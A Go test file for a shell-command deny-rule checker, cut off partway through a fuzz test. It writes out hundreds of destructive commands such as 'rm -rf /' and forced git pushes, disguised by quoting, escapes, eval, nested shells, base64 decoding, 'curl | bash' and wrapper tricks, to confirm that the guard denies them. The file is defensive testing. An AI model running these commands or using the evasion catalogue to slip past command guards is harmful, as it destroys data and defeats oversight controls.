package domain

import (
	"strconv"
	"strings"
	"testing"
)

func mustRule(t testing.TB, s string) commandRule {
	t.Helper()
	r, err := compileCommandRule(s)
	if err != nil {
		t.Fatalf("rule %q: %v", s, err)
	}
	return r
}

// denied is what the caller makes of a command: one that can't be read is
// denied.
func denied(r commandRule, command string) bool {
	line, err := parseCommand(command)
	return err != nil || r.denies(line)
}

func TestDeniedCommands(t *testing.T) {
	for _, test := range []struct {
		name, rule, command string
	}{
		{"as it is written", "rm -rf", "rm -rf /"},
		{"extra spaces", "rm -rf", "  rm   -rf\t/ "},
		{"options apart", "rm -rf", "rm -r -f /"},
		{"options turned around", "rm -rf", "rm -fr /"},
		{"options among others", "rm -rf", "rm -vrdf /"},
		{"options after the operand", "rm -rf", "rm / -r -f"},
		{"long options", "rm -rf", "rm --recursive --force /"},
		{"abbreviated options", "rm -rf", "rm --rec --fo /"},
		{"a capital R", "rm -rf", "rm -Rf /"},
		{"a rule in long options", "rm --recursive --force", "rm -rf x"},
		{"a full path", "rm -rf", "/bin/rm -r -f /"},
		{"a winding path", "rm -rf", "/bin/../bin//rm -rf /"},
		{"a relative path", "rm -rf", "./rm -rf /"},
		{"a rule with a path", "/bin/rm -rf", "rm -rf /"},
		{"capital letters", "rm -rf", "/bin/RM -rf /"},
		{"a Windows name", "rm -rf", `'C:\tools\rm.exe' -rf /`},
		{"a wildcard", "rm -r*", "rm -fr x"},
		{"a wildcard and a variable", "rm -r*", "rm $X"},
		{"any option", "rm -*", "rm -v x"},
		{"a wildcard for a word", "git push origin release/*", "git push origin release/1.2"},

		{"double quotes", "rm -rf", `"rm" "-rf" /`},
		{"single quotes", "rm -rf", `'rm' '-r''f' /`},
		{"quotes in the word", "rm -rf", `r''m -r"f" /`},
		{"a backslash", "rm -rf", `\r\m -\rf /`},
		{"a backslash in an option", "rm -rf", `rm -r\f /`},
		{"hex", "rm -rf", `$'\x72m' -rf /`},
		{"octal", "rm -rf", `$'\162\155' -rf /`},
		{"a code point", "rm -rf", `$'\u0072m' -rf /`},
		{"a NUL that ends the quote", "rm -rf", `$'rm\0x' -rf /`},
		{"hex in an option", "rm -rf", `rm $'\x2drf' /`},
		{"a translated string", "rm -rf", `$"rm" -rf /`},
		{"a broken line", "rm -rf", "r\\\nm -r\\\nf /"},
		{"a broken line in quotes", "rm -rf", "\"r\\\nm\" -rf /"},
		{"braces", "rm -rf", "{rm,-rf,/}"},
		{"braces for the option", "rm -rf", "rm -{r,f} /"},
		{"a glob for the program", "rm -rf", "/bin/r? -rf /"},
		{"a class for the program", "rm -rf", "/bin/[r]m -rf /"},
		{"a home directory", "rm -rf", "~/rm -rf /"},

		{"a variable", "rm -rf", "X=rm; $X -rf /"},
		{"a variable before the command", "rm -rf", "X=rm $X -rf /"},
		{"a default value", "rm -rf", "${X:-rm} -rf /"},
		{"all in a variable", "rm -rf", "X='rm -rf /'; $X"},
		{"an array", "rm -rf", `A=(rm -rf /); "${A[@]}"`},
		{"positional parameters", "rm -rf", `set -- rm -rf /; "$@"`},
		{"an operand that may be the option", "rm -rf", "rm $X"},
		{"an operand from a command", "rm -rf", "rm $(cat args)"},
		{"an operand from a glob", "rm -rf", "rm *"},
		{"a path behind a variable", "rm -rf", `nohupx "$DIR"/rm -rf /`},
		{"a loop over names", "rm -rf", "for c in rm; do $c -rf /; done"},
		{"a name that was read", "rm -rf", "read c <<< rm; $c -rf /"},

		{"after a semicolon", "rm -rf", "ls; rm -rf /"},
		{"after and", "rm -rf", "true && rm -rf /"},
		{"after or", "rm -rf", "false || rm -rf /"},
		{"in a pipe", "rm -rf", "yes | rm -rf /"},
		{"in the background", "rm -rf", "rm -rf / &"},
		{"on another line", "rm -rf", "ls\nrm -rf /"},
		{"negated", "rm -rf", "! rm -rf /"},
		{"negated without a space", "rm -rf", "!(rm -rf /)"},
		{"timed", "rm -rf", "time rm -rf /"},
		{"a coprocess", "rm -rf", "coproc rm -rf /"},
		{"a subshell", "rm -rf", "( rm -rf / )"},
		{"a block", "rm -rf", "{ rm -rf /; }"},
		{"a condition", "rm -rf", "if rm -rf /; then :; fi"},
		{"an else", "rm -rf", "if true; then :; else rm -rf /; fi"},
		{"a while", "rm -rf", "while rm -rf /; do :; done"},
		{"a for", "rm -rf", "for i in 1 2; do rm -rf /; done"},
		{"a for over numbers", "rm -rf", "for ((i=0; i<$(rm -rf /); i++)); do :; done"},
		{"a select", "rm -rf", "select x in a; do rm -rf /; done"},
		{"a case", "rm -rf", "case x in x) rm -rf /;; esac"},
		{"a case pattern", "rm -rf", "case x in $(rm -rf /)) ;; esac"},
		{"a function", "rm -rf", "f() { rm -rf /; }; f"},
		{"a function with arguments", "rm -rf", `f() { rm "$@"; }; f -rf /`},
		{"a function that runs its arguments", "rm -rf", `echo() { "$@"; }; echo rm -rf /`},
		{"a substitution", "rm -rf", "echo $(rm -rf /)"},
		{"backticks", "rm -rf", "echo `rm -rf /`"},
		{"backticks in backticks", "rm -rf", "echo `echo \\`rm -rf /\\``"},
		{"a substitution in quotes", "rm -rf", `echo "a $(rm -rf /) b"`},
		{"a substitution in a default", "rm -rf", `echo "${X:-$(rm -rf /)}"`},
		{"a substitution in an index", "rm -rf", "echo ${X[$(rm -rf /)]}"},
		{"a substitution in a slice", "rm -rf", "echo ${X:$(rm -rf /)}"},
		{"a substitution in a replacement", "rm -rf", "echo ${X/a/$(rm -rf /)}"},
		{"a substitution in arithmetic", "rm -rf", "echo $((1 + $(rm -rf /)))"},
		{"a substitution in an assignment", "rm -rf", "X=$(rm -rf /)"},
		{"a substitution in an array", "rm -rf", "X=(a $(rm -rf /))"},
		{"a substitution in a redirection", "rm -rf", "ls > $(rm -rf /)"},
		{"a substitution in a here-document", "rm -rf", "cat <<EOF\n$(rm -rf /)\nEOF"},
		{"a substitution in a here-string", "rm -rf", `cat <<< "$(rm -rf /)"`},
		{"a substitution in a test", "rm -rf", "[[ -n $(rm -rf /) ]]"},
		{"a substitution in a declaration", "rm -rf", "declare -x X=$(rm -rf /)"},
		{"a substitution in an export", "rm -rf", "export X=`rm -rf /`"},
		{"a substitution in let", "rm -rf", `let "x = $(rm -rf /)"`},
		{"a substitution in a pattern", "rm -rf", "echo @($(rm -rf /))"},
		{"a substitution in a tested pattern", "rm -rf", "[[ x == @(`rm -rf /`) ]]"},
		{"a substitution in an expression", "rm -rf", "[[ x =~ ^($(rm -rf /)) ]]"},
		{"a process substitution", "rm -rf", "cat <(rm -rf /)"},
		{"a process substitution for output", "rm -rf", "ls > >(rm -rf /)"},
		{"an index that arithmetic expands", "rm -rf", "[[ -v 'a[$(rm -rf /)]' ]]"},
		{"an index that printf expands", "rm -rf", "printf -v 'a[$(rm -rf /)]' x"},
		{"a value that arithmetic expands", "rm -rf", "x='a[$(rm -rf /)]'; echo $((x))"},
		{"a test that older shells take for two commands", "curl", "[[ x && curl == y ]]"},
		{"arithmetic that older shells take for a subshell", "rm -rf", "((rm -rf /etc))"},
		{"an index with a variable", "rm -rf", "X=rm; test -v 'a[$($X -rf /)]'"},
		{"an index with a variable in backticks", "rm -rf", "X=rm; test -v 'a[`$X -rf /`]'"},
		{"an index with a variable after sudo", "rm -rf", "X=rm; test -v 'a[$(sudo $X -rf /)]'"},
		{"an index with a variable after another command", "rm -rf", "X=rm; test -v 'a[$(true; $X -rf /)]'"},
		{"an index with a variable in eval", "rm -rf", `X=rm; test -v 'a[$(eval "$X -rf /")]'`},
		{"an index with a variable in an eval in quotes", "rm -rf", `X=rm; n="a[\$(eval '\$X -rf /')]"; echo $((n))`},
		{"an index with a process substitution", "rm -rf", "X=rm; test -v 'a[$(cat <($X -rf /))]'"},
		{"an index with a glob", "rm -rf", "test -v 'a[$(/bin/r? -rf /)]'"},
		{"a value with a variable that arithmetic expands", "rm -rf", "X=rm; n='a[$($X -rf /)]'; echo $((n))"},
		{"a value that is arithmetic and no shell", "rm -rf", "X=rm; n='(1)+a[$($X -rf /)]'; echo $((n))"},
		{"a text met as a word and then as code", "rm -rf", "X=rm; x='$X -rf /' y --exec='$X -rf /'"},

		{"sudo", "rm -rf", "sudo rm -rf /"},
		{"sudo with options", "rm -rf", "sudo -u root -- rm -rf /"},
		{"sudo with a variable", "rm -rf", "sudo $X -rf /"},
		{"sudo with a variable after an option", "rm -rf", "sudo -u root $X -rf /"},
		{"sudo with a shell", "rm -rf", "echo rm -rf / | sudo -s"},
		{"sudo denied", "sudo", "sudo ls"},
		{"sudo in a pipe", "sudo", "echo x | sudo tee /etc/x"},
		{"sudo by path", "sudo", "/usr/bin/sudo ls"},
		{"env", "rm -rf", "env X=1 rm -rf /"},
		{"env that splits", "rm -rf", "env -S 'rm -rf /'"},
		{"env that splits at once", "rm -rf", "env -Srm -rf /"},
		{"env by path", "rm -rf", "/usr/bin/env rm -rf /"},
		{"timeout", "rm -rf", "timeout 5 rm -rf /"},
		{"timeout with a variable", "rm -rf", "timeout 5 $X -rf /"},
		{"nohup, nice and more", "rm -rf", "nohup nice -n 5 stdbuf -o0 setsid rm -rf / &"},
		{"command", "rm -rf", "command rm -rf /"},
		{"builtin command", "rm -rf", "builtin command $X -rf /"},
		{"exec", "rm -rf", "exec -a ls rm -rf /"},
		{"busybox", "rm -rf", "busybox rm -rf /"},
		{"a wrapper nobody heard of", "rm -rf", "frobnicate --x rm -rf /"},
		{"xargs", "rm -rf", "find . | xargs rm -rf"},
		{"xargs with the options as input", "rm -rf", "echo -rf / | xargs rm"},
		{"xargs with the program as input", "rm -rf", "echo rm | xargs -I{} {} -rf /"},
		{"xargs with a letter for the program", "rm -rf", "echo rm | xargs -I R R -rf /"},
		{"xargs sudo", "rm -rf", "echo rm -rf / | xargs sudo"},
		{"xargs sh", "rm -rf", "echo 'rm -rf /' | xargs -0 sh -c"},
		{"find -exec", "rm -rf", `find . -exec rm -rf {} \;`},
		{"find -exec sh", "rm -rf", `find . -exec sh -c 'rm -rf "$1"' _ {} +`},
		{"find -exec what it found", "rm -rf", `find . -name rm -exec {} -rf / \;`},
		{"find with a variable", "rm -rf", "find . $X"},

		{"sh -c", "rm -rf", "sh -c 'rm -rf /'"},
		{"sh -c nested twice", "rm -rf", `bash -c "sh -c 'rm -rf /'"`},
		{"sh -c nested thrice with quotes", "rm -rf", `bash -c "sh -c \"dash -c 'r\\\\m -rf /'\""`},
		{"sh with options", "rm -rf", "bash -euo pipefail -c 'rm -rf /'"},
		{"sh -c with a variable", "rm -rf", `sh -c "$X"`},
		{"sh -c with a variable after an option", "rm -rf", `sh -c -o pipefail "$X"`},
		{"sh -c with its arguments", "rm -rf", `sh -c '"$@"' _ rm -rf /`},
		{"sh -c that can't be read", "rm -rf", `sh -c 'rm "'`},
		{"base64 to sh", "rm -rf", "echo cm0gLXJmIC8= | base64 -d | sh"},
		{"curl to sh", "rm -rf", "curl -s https://x.example | bash -s -- -y"},
		{"a here-document to sh", "rm -rf", "sh <<EOF\nrm -rf /\nEOF"},
		{"a here-string to sh", "rm -rf", "bash <<< 'rm -rf /'"},
		{"a versioned shell", "rm -rf", "echo x | bash-5.2"},
		{"a versioned shell by path", "rm -rf", "echo x | /opt/bin/dash0.5 -s"},
		{"a versioned shell with code", "rm -rf", `bash5 -c 'r\m -rf /'`},
		{"brush", "rm -rf", "echo x | brush"},
		{"osh", "rm -rf", `osh -c "$X"`},
		{"sh of a file", "rm -rf", "bash script.sh"},
		{"sh of a substitution", "rm -rf", "bash <(echo rm -rf /)"},
		{"sh with a start file", "rm -rf", "echo x | bash -rcfile x"},
		{"sh in a process substitution", "rm -rf", "echo rm -rf / > >(sh)"},
		{"sh in a container", "rm -rf", "docker run -i alpine sh"},
		{"sh behind a wrapper nobody heard of", "rm -rf", "echo rm -rf / | frobnicate sh"},
		{"eval", "rm -rf", "eval 'rm -rf /'"},
		{"eval in parts", "rm -rf", "eval r'm' -r'f' /"},
		{"eval with quotes kept", "rm -rf", `eval "r'm'" "-r'f'" /`},
		{"eval of a variable", "rm -rf", `eval "$X"`},
		{"eval that can't be read", "rm -rf", "eval 'rm \"'"},
		{"source", "rm -rf", "source x.sh"},
		{"a dot", "rm -rf", ". ./x.sh"},
		{"su", "rm -rf", "su -c 'rm -rf /' root"},
		{"su with its option attached", "rm -rf", "su -c'rm -rf /' root"},
		{"su from its input", "rm -rf", "echo rm -rf / | su -"},
		{"ssh", "rm -rf", "ssh host rm -rf /"},
		{"ssh with quotes", "rm -rf", "ssh host 'r\\m -rf /'"},
		{"ssh from its input", "rm -rf", "echo rm -rf / | ssh host"},
		{"watch", "rm -rf", "watch 'rm -rf /'"},
		{"parallel", "rm -rf", "parallel ::: 'rm -rf /'"},
		{"script", "rm -rf", "script -qc 'rm -rf /' x"},
		{"trap", "rm -rf", "trap 'rm -rf /' EXIT"},
		{"an alias", "rm -rf", "alias x='rm -rf'; x /"},
		{"an alias in parts", "rm -rf", "alias x=r; x"},
		{"a hashed name", "rm -rf", "hash -p /bin/rm ls; ls -rf /"},
		{"python -c", "rm -rf", `python3 -c 'import os; os.system("r" + "m -rf /")'`},
		{"python from its input", "rm -rf", "echo x | python"},
		{"perl -e", "rm -rf", `perl -we 'exec "rm", "-rf", "/"'`},
		{"awk", "rm -rf", `awk 'BEGIN { system("r" "m -rf /") }'`},
		{"sed", "rm -rf", `sed '1e r\m -rf /' x`},
		{"a flag of sed", "rm -rf", `sed 's/x/r\x6d -rf \//e' x`},
		{"an editor", "rm -rf", `vim -c '!rm -rf /' x`},
		{"an editor told in its own words", "rm -rf", `vim -c 'call system("r"."m -rf /")' x`},
		{"an editor's input", "rm -rf", "ed <<< '!rm -rf /'"},
		{"an editor's input in a pipe", "rm -rf", "echo '!rm -rf /' | ex -s x"},
		{"an editor's input behind a wrapper", "rm -rf", "sudo busybox vi x < keys"},
		{"an editor that is all set", "rm -rf", "EDITOR=vim git commit"},
		{"a setting of git", "rm -rf", `git -c core.sshCommand='r\m -rf /' fetch`},
		{"an editor with a variable", "rm -rf", `vim -c "!rm $X" y`},
		{"an editor told a variable", "rm -rf", "X=rm; frobnicate -c '!$X -rf /'"},
		{"an alias of git with a variable", "rm -rf", "export X=rm; git -c alias.z='!$X -rf /' z"},
		{"an alias of git with a variable further on", "rm -rf", "export X=rm; git -c alias.z='!true; $X -rf /' z"},
		{"tar with a variable", "rm -rf", "tar --checkpoint-action=exec='$X -rf /' -cf a b"},
		{"tar with all in a variable", "rm -rf", "tar --checkpoint-action=exec='$X' -cf a b"},
		{"tar with a glob", "rm -rf", "tar --checkpoint-action=exec='/bin/r? -rf /' -cf a b"},
		{"coreutils", "rm -rf", "coreutils --coreutils-prog=rm -rf /"},
		{"env that splits in its long option", "rm -rf", `env --split-string='r\m -rf /'`},
		{"make from its input", "rm -rf", "echo x | make -f -"},
		{"make from its input, attached", "rm -rf", "echo x | gmake -sf-"},
		{"make from its input by name", "rm -rf", "echo x | make --file=/dev/stdin"},
		{"make from a substitution", "rm -rf", "make -f <(echo x)"},
		{"make of what a variable says", "rm -rf", "X=-f-; echo x | make $X"},
		{"make from its arguments", "rm -rf", "make --eval='x:;r\\m -rf /' x"},
		{"ninja from its input", "rm -rf", "echo x | ninja -C out -f -"},
		{"a group", "rm -rf", `sg wheel -c "rm -rf /"`},
		{"a pod", "rm -rf", `kubectl exec pod -- "$X" -rf /`},
		{"tar", "rm -rf", "tar cf x y --checkpoint-action=exec='rm -rf /'"},
		{"a pager", "rm -rf", "PAGER='rm -rf /' git log"},
		{"a pager from a variable", "rm -rf", `GIT_PAGER="$X" git log`},
		{"a start file", "rm -rf", "BASH_ENV=x bash -c ls"},
		{"a start file by env", "rm -rf", "env BASH_ENV=x bash -c ls"},
		{"a start file by export", "rm -rf", `export "BASH_ENV=x"; bash -c ls`},

		{"the root", "rm -rf /", "rm -rf /"},
		{"the root with slashes", "rm -rf /", "rm -rf ///"},
		{"the root with a dot", "rm -rf /", "rm -rf /."},
		{"the root by a detour", "rm -rf /", "rm -rf /x/.."},
		{"the root in quotes", "rm -rf /", `rm -rf "/"`},
		{"the root as a glob", "rm -rf /", "rm -rf /*"},
		{"the root among others", "rm -rf /", "rm -rf --no-preserve-root x / y"},
		{"the root as the directory one is in", "rm -rf /", "cd / && rm -rf ."},
		{"the root above", "rm -rf /", "rm -rf ../../../.."},
		{"the root from a variable", "rm -rf /", `rm -rf "$X"`},
		{"a path relative to the root", "rm -rf /etc/ssl", "cd /etc && rm -rf ssl"},
		{"an absolute path under a relative rule", "rm -rf build/out", "rm -rf /src/build/out"},

		{"git push --force", "git push --force", "git push --force"},
		{"the option first", "git push --force", "git push --force origin main"},
		{"the option last", "git push --force", "git push origin main --force"},
		{"the option with a value", "git push --force", "git push --force=x"},
		{"the option abbreviated", "git push --force", "git push --forc"},
		{"the option in short", "git push --force", "git push -uf origin main"},
		{"the option as a sign", "git push --force", "git push origin +main"},
		{"force with a lease", "git push --force", "git push --force-with-lease"},
		{"force with a lease on a branch", "git push --force", "git push --force-with-lease=main:abc origin main"},
		{"force with a lease under the short option", "git push -f", "git push --force-with-lease"},
		{"force with a lease abbreviated", "git push --force", "git push --force-w"},
		{"force that is checked", "git push --force", "git push --force-if-includes"},
		{"a mirror", "git push --force", "git push --mirror backup"},
		{"a mirror abbreviated", "git push --force", "git push --mir backup"},
		{"a lease under a rule of its own", "git push --force-with-lease", "git push --force-with-lease"},
		{"a mirror under a rule of its own", "git push --mirror", "git push --mirror"},
		{"options of git", "git push --force", "git -C /x -c a=b push --force"},
		{"an alias of git", "git push --force", "git -c alias.p='push --force' p"},
		{"a configured alias", "git push --force", "GIT_CONFIG_COUNT=1 git p"},
		{"the verb in a variable", "git push --force", "git $X --force"},
		{"the option in a variable", "git push --force", `git push origin "$X"`},
		{"git by the name of the verb", "git push --force", "git-push --force"},
		{"git by the path of the verb", "git push --force", "sudo /usr/lib/git-core/git-push origin -f"},
		{"a rule with the name of the verb", "git-push --force", "git push --force"},
		{"the name of the verb in both", "git-push --force", "git-push --force"},
		{"git run by git", "git push --force", "git rebase -x 'git push --force' main"},

		{"curl", "curl", "curl https://example.com"},
		{"curl in a substitution", "curl", `X="$(curl -s x)"`},
		{"curl in a test", "curl", "if curl -f x; then :; fi"},
		{"curl by name only", "curl", "which curl"},
		{"curl in an unread substitution", "curl", "ls ${x:=`curl y`}"},

		{"nothing", "curl", "  "},
		{"a comment", "curl", "# curl"},
		{"an open quote", "curl", "ls 'x"},
		{"an open substitution", "curl", "ls $(x"},
		{"a NUL", "curl", "ls \x00"},
		{"a carriage return", "curl", "ls\rx"},
		{"too long", "curl", "ls " + strings.Repeat("x", mostShell)},
		{"too deep", "curl", strings.Repeat("(", 5000) + "ls" + strings.Repeat(")", 5000)},
		{"too deep in words", "curl", strings.Repeat("if ", 5000)},
		{"too deep in quotes", "curl", strings.Repeat(`"$(`, 5000) + "ls" + strings.Repeat(`)"`, 5000)},
		{"code in code in code", "curl", nest("ls", 12)},
	} {
		t.Run(test.name, func(t *testing.T) {
			if !denied(mustRule(t, test.rule), test.command) {
				t.Errorf("got %q allowed under %q, want it denied", test.command, test.rule)
			}
		})
	}
}

func nest(code string, levels int) string {
	for range levels {
		code = "sh -c '" + strings.ReplaceAll(code, "'", `'\''`) + "'"
	}
	return code
}

func TestAllowedCommands(t *testing.T) {
	for _, test := range []struct {
		name, rule, command string
	}{
		{"another program", "rm -rf", "ls -la"},
		{"a name that holds another", "rm -rf", "farm -rf /"},
		{"a hyphenated name", "rm -rf", "rm-old -rf /"},
		{"without the options", "rm -rf", "rm file.txt"},
		{"with one of two options", "rm -rf", "rm -r dir"},
		{"a capital F", "rm -rf", "rm -rF dir"},
		{"options of another program", "rm -rf", "rm x; ls -rf"},
		{"a variable that is printed", "rm -rf", `echo "hello $USER"`},
		{"a glob that is listed", "rm -rf", "ls *.go"},
		{"git status", "rm -rf", "git status"},
		{"tests in a pipe", "rm -rf", "go test ./... | tail -5"},
		{"tests in a directory", "rm -rf", `cd "$DIR" && go test ./... 2>&1 | tee log`},
		{"options in one word of text", "rm -rf", "git commit -m 'never run rm -rf'"},
		{"braces that are no program", "rm -rf", "touch {a,b}.txt"},
		{"a loop", "rm -rf", `for f in *.go; do gofmt -l "$f"; done`},
		{"arithmetic", "rm -rf", "for ((i=0; i<3; i++)); do ((n += i)); echo $((n*2)); done"},
		{"a test", "rm -rf", `if [[ -f "$X" && $Y == a* ]]; then echo yes; fi`},
		{"the older test", "rm -rf", `[ -n "$X" ] && echo yes`},
		{"an assignment", "rm -rf", "X=1"},
		{"an export", "rm -rf", `export PATH="$HOME/bin:$PATH"`},
		{"a function", "rm -rf", `f() { echo "$1"; }; f x`},
		{"a here-document", "rm -rf", "cat > x.md <<'EOF'\nuse $(rm -rf x) with care\nEOF"},
		{"sudo that is let through", "rm -rf", "sudo systemctl restart nginx"},
		{"sudo -u", "rm -rf", "sudo -n -u postgres psql -l"},
		{"env", "rm -rf", "env GOOS=linux go build ./..."},
		{"timeout", "rm -rf", `timeout 60 go test -run "$NAME" ./...`},
		{"xargs", "rm -rf", "git ls-files '*.go' | xargs -0 -n1 gofmt -l"},
		{"xargs with a placeholder", "rm -rf", "ls | xargs -I {} cp {} /tmp"},
		{"find", "rm -rf", `find . -name '*.go' -newer "$REF" -exec grep -l foo {} +`},
		{"sh -c", "rm -rf", "bash -c 'ls -la | head'"},
		{"sh -c with options", "rm -rf", "bash -euo pipefail -c 'go vet ./...' "},
		{"sh -c with an argument", "rm -rf", `sh -c 'ls "$1"' _ "$DIR"`},
		{"eval", "rm -rf", "eval 'ls -la'"},
		{"ssh", "rm -rf", "ssh -p 22 host uptime"},
		{"a script of python", "rm -rf", "python3 tools/gen.py --out x"},
		{"a module of python", "rm -rf", "python3 -m pytest -x"},
		{"awk", "rm -rf", "ps | awk '{ print $1 }'"},
		{"sed", "rm -rf", "sed -i -e 's/one/three/g' file.env"},
		{"a list of lines", "rm -rf", "sed -n '1,20p' file.me"},
		{"docker build", "rm -rf", "docker build -t app . -f Dockerfile"},
		{"a pod", "rm -rf", `kubectl logs "$POD" | grep -c rm`},
		{"npm", "rm -rf", "npm run build"},
		{"make", "rm -rf", "make ENV=prod test"},
		{"a version", "rm -rf", "node --version"},
		{"a price", "rm -rf", `git commit -m "costs $5 (approx)"`},
		{"a price in single quotes", "rm -rf", "git commit -m 'costs $5 (approx)'"},
		{"code that is looked for", "rm -rf", "grep '$(foo)' file"},
		{"code that is looked for after a sign", "rm -rf", "grep 'x=$(foo $y)' file"},
		{"code that is written about", "rm -rf", "git commit -m 'ignore `*.log` and run `python`'"},
		{"a variable in a value", "rm -rf", `go build -ldflags="-X main.version=$V" ./...`},
		{"a glob in a value", "rm -rf", "tar --exclude='*.o' -cf a.tar src"},
		{"a regular expression in a value", "rm -rf", "go test -run='^TestX$' ./..."},
		{"a query", "rm -rf", "psql -c 'select * from t where id=$1'"},
		{"a negated pattern of awk", "rm -rf", "awk '!seen[$0]++' file"},
		{"a field of awk", "rm -rf", "sort x | awk '{ s += $(NF-1) } END { print s }'"},
		{"a format", "rm -rf", "dpkg-query -W --showformat='${Package}\n'"},
		{"a document in a value", "rm -rf", `curl --json='{"a":1, "b":[1, 2]}' x`},
		{"a value that is kept for later", "rm -rf", "export P='$HOME/bin'"},
		{"make of a file", "rm -rf", "make -f build/Makefile -j8"},
		{"make on all processors", "rm -rf", "make -j$(nproc) && make -j $(nproc) all"},
		{"make somewhere", "rm -rf", `make -C "$DIR" PREFIX="$HOME" --directory="$DIR" install`},
		{"ninja", "rm -rf", "ninja -C out"},
		{"a verb by its name", "git push --force", "git-push origin main"},
		{"an editor's version", "rm -rf", "vim --version"},
		{"a word that names an editor", "rm -rf", "grep -r ed src/vim"},

		{"another directory", "rm -rf /", "rm -rf /tmp/x"},
		{"a relative directory", "rm -rf /", "rm -rf ./build"},
		{"the root, but not by force", "rm -rf /", "rm -r /"},

		{"a plain push", "git push --force", "git push origin main"},
		{"force under a rule about mirrors", "git push --mirror", "git push --force"},
		{"words out of order", "git push --force", "git stash push"},
		{"another verb", "git push --force", `git checkout --force "$BRANCH"`},
		{"tags that are followed", "git push --force", "git push --follow-tags"},
		{"a push that is written about", "git push --force", "git commit -m 'docs: git push --force'"},

		{"another program for urls", "curl", "wget https://example.com"},
		{"a file named after it", "curl", "cat curl.txt"},
		{"a word that begins like it", "curl", "go test -run TestCurl ./curling"},
		{"no sudo", "sudo", "ls /etc/sudoers.d"},
	} {
		t.Run(test.name, func(t *testing.T) {
			line, err := parseCommand(test.command)
			if err != nil {
				t.Fatalf("got %v, want %q read", err, test.command)
			}
			if mustRule(t, test.rule).denies(line) {
				t.Errorf("got %q denied under %q (%s), want it allowed", test.command, test.rule, line.unknown)
			}
		})
	}
}

func TestCommandRulesThatAreRefused(t *testing.T) {
	for _, rule := range []string{
		"", " ", "# rm", "rm -rf; ls", "rm | sh", "rm && ls", "rm -rf > x", "X=1 rm", "! rm", "rm &", "rm;", "( rm )", "time rm",
		"$RM -rf", "rm $X", "rm `x`", "rm ~/x", "rm {a,b}", "rm [ab]", "rm ?", "r* x", "-rf", "'' x", "rm 'x", "rm\nls", "rm \x00",
		"export X=1", "[[ x ]]", "if", "rm -rf <(x)", strings.Repeat("x", mostShell+1),
	} {
		if r, err := compileCommandRule(rule); err == nil {
			t.Errorf("got %+v for %q, want it refused", r, rule)
		}
	}
}

// hardParts are what makes a long command hard when it is said over and over.
var hardParts = []string{
	"(", "$(", "`", `"$(`, "{ ", "if ", "! ", "${a:-", "$((", "((", "[[ ( ", "<(", "case x in ", "f() ", "time ", "$'", "<<E ", "a[", "!(",
	"rm ", "git log git ", "sudo ", "sudo -aaaaaaa ", "docker ", "xargs ", "eval ", "eval - ", "sh -c ", "tmux ", "find ", "a=b ", "env a=b ",
	"x 'y z' ", "eval 'x y' ", "{a,b}", "*", "\\", "x;", "x|", "x&", "\n", "'", "\"", "sed ;e", "awk |{",
	"find -exec ", "awk a ", "sed a ", "docker env a=b ", "docker sed ", "tmux awk ", "x 'a=b=c=d e' ", "rm -aaaaaaa ", "rm ../a/../b ",
}

func hardCommands() []string {
	var hard []string
	for _, part := range hardParts {
		for _, around := range []string{"X", "eval eval -a 'X'", "tmux x 'a=a=X'"} {
			room := mostShell - len(around)
			hard = append(hard, strings.Replace(around, "X", strings.Repeat(part, room/len(part)), 1))
		}
		// As many words as are read, and no more.
		hard = append(hard, strings.Repeat(part, min(mostShell/len(part), mostShellWords/(1+strings.Count(part, " ")))))
	}
	return hard
}

// mustRules are many rules, with a number for each N.
func mustRules(t testing.TB, format string) []commandRule {
	t.Helper()
	rules := make([]commandRule, 64)
	for i := range rules {
		rules[i] = mustRule(t, strings.ReplaceAll(format, "N", strconv.Itoa(i)))
	}
	return rules
}

func TestHardCommandsTakeBoundedWork(t *testing.T) {
	var rules []commandRule
	for _, rule := range []string{"rm -rf /", "sudo", "git push --force *a*b*c", "git log -x", "docker run -x", "x -y", "find -delete", "env -x"} {
		rules = append(rules, mustRule(t, rule))
	}
	for _, command := range hardCommands() {
		var r shellReader
		err := r.read(command)
		if r.work > mostShellWork {
			t.Errorf("got work of %d on %.40q, want at most %d", r.work, command, mostShellWork)
		}
		kept := 0
		for _, c := range r.commands {
			kept += len(c.words)
		}
		if kept > mostShellWords {
			t.Errorf("got %d words kept of %.40q, want at most %d", kept, command, mostShellWords)
		}
		if err != nil || r.line.unknown != "" {
			continue
		}
		r.line.index(r.commands, r.words)
		for _, rule := range rules {
			if _, looked := rule.weigh(&r.line); looked > 2*mostShellWords {
				t.Errorf("got %d words of %.40q looked at by one rule, want each once", looked, command)
			}
		}
	}
}

func TestRulesLookOnlyAtTheirProgram(t *testing.T) {
	hard := strings.Repeat("x7 x3 -y ", mostShellWords/4)
	for _, test := range []struct {
		name, rules, command string
		most                 int
	}{
		{"none is about it", "yN -r", hard, 0},
		{"two are about it, and each looks at it once", "xN -r", hard, 2 * mostShellWords},
		{"one command of many", "xN -r", strings.Repeat("ls;", 1000) + "x3 a b; " + strings.Repeat("ls;", 1000), 3},
	} {
		t.Run(test.name, func(t *testing.T) {
			line, err := parseCommand(test.command)
			if err != nil || line.unknown != "" {
				t.Fatalf("got %v %s, want it read", err, line.unknown)
			}
			sum := 0
			for _, r := range mustRules(t, test.rules) {
				_, looked := r.weigh(&line)
				sum += looked
			}
			if sum > test.most {
				t.Errorf("got %d words looked at by all rules, want at most %d", sum, test.most)
			}
		})
	}
}

func TestRulesDoNotAllocate(t *testing.T) {
	line, err := parseCommand(`sudo RM -v ./A "b c" ../d /e; git push origin main --follow-tags; curl -s https://x.example`)
	if err != nil {
		t.Fatal(err)
	}
	for _, rule := range []string{"rm -rf", "rm -v /etc/ssl", "rm src/x", "git push --force", "git push upstream *", "wget"} {
		r := mustRule(t, rule)
		if n := testing.AllocsPerRun(100, func() { r.denies(line) }); n > 0 {
			t.Errorf("got %v allocations by %q, want what they are for done once a command", n, rule)
		}
	}
}

func TestCommandsOfManyWords(t *testing.T) {
	rule := mustRule(t, "rm -rf")
	if command := "git add" + strings.Repeat(" x", mostShellWords-2); denied(rule, command) {
		t.Error("got a command of as many words as are read denied, want it allowed")
	}
	for _, command := range []string{
		"git add" + strings.Repeat(" x", mostShellWords-1),
		strings.Repeat("x;", mostShellWords+1),
		"x --a='" + strings.Repeat("x ", mostShellWords) + "'",
	} {
		if !denied(rule, command) {
			t.Errorf("got %.20q… allowed, want it denied for its many words", command)
		}
	}
}

func FuzzCommand(f *testing.F) {
	for _, rule := range []string{"rm -rf", "rm -rf /", "git push --force", "curl", "sudo", "echo *x*"} {
		for _, command := range []string{
			"rm -rf /", "ls -la", "git push -f", "sh -c 'rm -rf /'", "$X -rf", "find . -exec rm -rf {} +", "env A=b curl x", ". x", "alias a=b",
